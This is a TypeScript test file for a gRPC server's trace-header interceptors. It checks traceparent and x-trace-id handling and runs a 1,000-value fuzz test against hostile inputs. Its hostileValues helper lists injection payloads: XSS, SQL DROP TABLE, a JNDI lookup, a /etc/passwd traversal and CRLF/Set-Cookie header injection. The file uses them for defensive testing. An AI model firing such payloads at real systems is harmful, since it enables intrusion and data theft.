import * as grpc from '@grpc/grpc-js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { currentCallContext, serverInterceptors } from '../../src';
import { echoClient, startEchoServer, unary, type EchoClient, type EchoMessage, type TestServer } from '../helpers';

const VALID_ID = '4bf92f3577b34da6a3ce929d0e0e4736';
const VALID_PARENT = `00-${VALID_ID}-00f067aa0ba902b7-01`;

/** The handler reports the trace id and the raw headers it saw; `fail` makes it answer NOT_FOUND. */
const impl = {
  unary: (call: grpc.ServerUnaryCall<EchoMessage, EchoMessage>, cb: grpc.sendUnaryData<EchoMessage>) => {
    const traceId = currentCallContext()?.traceId;
    if (call.request.fail) return cb({ code: grpc.status.NOT_FOUND, details: 'nope' });
    if (call.request.headers) call.sendMetadata(new grpc.Metadata());
    cb(null, { traceId, traceparent: call.metadata.get('traceparent')[0] as string, xTraceId: call.metadata.get('x-trace-id')[0] as string });
  },
};

function md(entries: Record<string, string>): grpc.Metadata {
  const m = new grpc.Metadata();
  for (const [k, v] of Object.entries(entries)) m.set(k, v);
  return m;
}

/** The trace id the server returned, in headers (sent anyway with a response) or trailers. */
function returned(result: Awaited<ReturnType<typeof unary>>): string[] {
  return [...(result.headers?.get('x-trace-id') ?? []), ...result.status.metadata.get('x-trace-id')] as string[];
}

/** Everything the client can observe of a response, as text. */
function observed(result: Awaited<ReturnType<typeof unary>>): string {
  return JSON.stringify([result.response, result.headers?.toJSON(), result.status.metadata.toJSON(), result.status.details]);
}

describe('server trace headers', () => {
  let server: TestServer;
  let edge: TestServer;
  let echoing: TestServer;
  let client: EchoClient;

  beforeAll(async () => {
    server = await startEchoServer(impl, { interceptors: serverInterceptors() });
    edge = await startEchoServer(impl, { interceptors: serverInterceptors({ trace: { trustIncoming: false } }) });
    echoing = await startEchoServer(impl, { interceptors: serverInterceptors({ trace: { alwaysEcho: true } }) });
    client = echoClient(server.address); // bare grpc-js: we control the headers
  });
  afterAll(async () => {
    client.close();
    await Promise.all([server.close(), edge.close(), echoing.close()]);
  });

  it('accepts a valid traceparent and does not echo the caller its own id on success', async () => {
    const r = await unary(client, {}, { metadata: md({ traceparent: VALID_PARENT }) });
    expect(r.response?.traceId).toBe(VALID_ID);
    expect(returned(r)).toEqual([]);
  });

  it('falls back to a valid x-trace-id (normalised), echoing when it changed the form', async () => {
    const upper = await unary(client, {}, { metadata: md({ 'x-trace-id': VALID_ID.toUpperCase() }) });
    expect(upper.response?.traceId).toBe(VALID_ID);
    expect(returned(upper)).toEqual([VALID_ID]);
    const same = await unary(client, {}, { metadata: md({ 'x-trace-id': VALID_ID }) });
    expect(same.response?.traceId).toBe(VALID_ID);
    expect(returned(same)).toEqual([]);
  });

  it('prefers a valid traceparent over x-trace-id', async () => {
    const r = await unary(client, {}, { metadata: md({ traceparent: VALID_PARENT, 'x-trace-id': 'f'.repeat(32) }) });
    expect(r.response?.traceId).toBe(VALID_ID);
  });

  it('generates and returns an id when none came', async () => {
    const r = await unary(client, {});
    expect(r.response?.traceId).toMatch(/^[0-9a-f]{32}$/);
    expect(returned(r)).toEqual([r.response?.traceId]);
  });

  it('returns the id in headers when the handler sends headers anyway', async () => {
    const r = await unary(client, { headers: true });
    expect(r.headers?.get('x-trace-id')).toEqual([r.response?.traceId]);
    expect(r.status.metadata.get('x-trace-id')).toEqual([]);
  });

  it('returns the id on every error, even the caller’s own', async () => {
    const r = await unary(client, { fail: true }, { metadata: md({ traceparent: VALID_PARENT }) });
    expect(r.status.code).toBe(grpc.status.NOT_FOUND);
    expect(r.status.metadata.get('x-trace-id')).toEqual([VALID_ID]);
  });

  it('trustIncoming: false always generates (and returns) its own id', async () => {
    const c = echoClient(edge.address);
    const r = await unary(c, {}, { metadata: md({ traceparent: VALID_PARENT, 'x-trace-id': VALID_ID }) });
    c.close();
    expect(r.response?.traceId).toMatch(/^[0-9a-f]{32}$/);
    expect(r.response?.traceId).not.toBe(VALID_ID);
    expect(returned(r)).toEqual([r.response?.traceId]);
  });

  it('alwaysEcho returns the id on success too', async () => {
    const c = echoClient(echoing.address);
    const r = await unary(c, {}, { metadata: md({ traceparent: VALID_PARENT }) });
    c.close();
    expect(returned(r)).toEqual([VALID_ID]);
  });

  it('1,000 hostile trace headers: every call succeeds with a fresh valid id; nothing is reflected', async () => {
    const hostile = hostileValues(1000);
    expect(hostile.length).toBe(1000);
    const batch = 100;
    let checked = 0;
    for (let i = 0; i < hostile.length; i += batch) {
      const results = await Promise.all(
        hostile.slice(i, i + batch).map(async (value, j) => {
          const headers: Record<string, string> = (i + j) % 2 === 0 ? { traceparent: value } : { 'x-trace-id': value };
          const both: Record<string, string> = (i + j) % 3 === 0 ? { traceparent: value, 'x-trace-id': value } : headers;
          return { value, result: await unary(client, {}, { metadata: md(both) }) };
        }),
      );
      for (const { value, result } of results) {
        expect(result.error).toBeUndefined();
        const id = result.response?.traceId as string;
        expect(id).toMatch(/^[0-9a-f]{32}$/);
        expect(returned(result)).toEqual([id]);
        const text = observed({ ...result, response: { traceId: id } });
        if (value.length >= 4) expect(text.includes(value)).toBe(false);
        checked++;
      }
    }
    expect(checked).toBe(1000);
  });
});

/** Invalid, oversized and injection-style values (printable ASCII: grpc-js refuses to send anything else). */
function hostileValues(count: number): string[] {
  const seeds = [
    `${VALID_PARENT}\r\nx-admin: 1`.replace(/[\r\n]/g, ' '),
    `00-${VALID_ID.toUpperCase()}-00f067aa0ba902b7-01`,
    `00-${'0'.repeat(32)}-00f067aa0ba902b7-01`,
    `00-${VALID_ID}-${'0'.repeat(16)}-01`,
    `ff-${VALID_ID}-00f067aa0ba902b7-01`,
    `00-${VALID_ID}-00f067aa0ba902b7-01-extra`,
    '<script>alert(1)</script>',
    "'; DROP TABLE users; --",
    '${jndi:ldap://example.invalid/a}',
    '../../../../etc/passwd',
    '%00%0d%0aSet-Cookie: a=b',
    '{{7*7}}',
    'x'.repeat(8000),
    ' '.repeat(40),
    'g'.repeat(32),
    `${VALID_ID}${VALID_ID}`,
    `${VALID_ID.slice(0, 31)}`,
  ];
  const out: string[] = [];
  let n = 0;
  while (out.length < count) {
    const seed = seeds[n % seeds.length];
    // Vary each value so a reflected one is attributable: a unique suffix, kept invalid.
    out.push(n < seeds.length ? seed : `${seed}~${n.toString(36)}!`);
    n++;
  }
  return out;
}
